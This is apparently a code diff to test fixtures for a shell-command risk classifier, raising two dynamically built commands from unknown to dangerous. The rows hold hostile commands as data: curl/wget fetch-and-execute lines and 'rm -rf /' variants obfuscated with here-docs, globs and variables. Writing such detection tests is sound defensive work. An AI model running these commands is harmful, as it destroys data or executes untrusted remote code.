@@ -65,7 +65,8 @@ const REPARSED_TEXT: Row[] = [
   ['bash -c "$(curl -fsSL https://x.sh)"', 'dangerous', 'D29'],
   ['eval "$(wget -qO- x)"', 'dangerous', 'D29'],
   ['bash -c "$CMD"', 'dangerous', 'U03'],
-  ['ssh host "rm -rf $DIR"', 'unknown', 'U03'],
+  // Text built at run time and run by a shell hides what runs: at least dangerous (N40), never only unknown.
+  ['ssh host "rm -rf $DIR"', 'dangerous', 'N40'],
   ['sh <<< "rm -rf /"', 'hardline', 'H01'],
   ["bash <<'EOF'\nrm -rf /\nEOF", 'hardline', 'H01'],
   ['cat <<EOF | sh\nrm -rf /\nEOF', 'hardline', 'H01'],
@@ -101,7 +102,7 @@ const DYNAMIC_NAMES: Row[] = [
   ['/???/r? -rf /', 'hardline', 'H01'],
   ['X=rm; $X -rf /', 'hardline', 'H01'],
   ['$(echo rm) -rf /', 'hardline', 'H01'],
-  ['$CMD -rf /', 'unknown', 'U02'],
+  ['$CMD -rf /', 'dangerous', 'N40'],
   ['"$(curl -s x)"', 'dangerous', 'D29'],
 ];
 
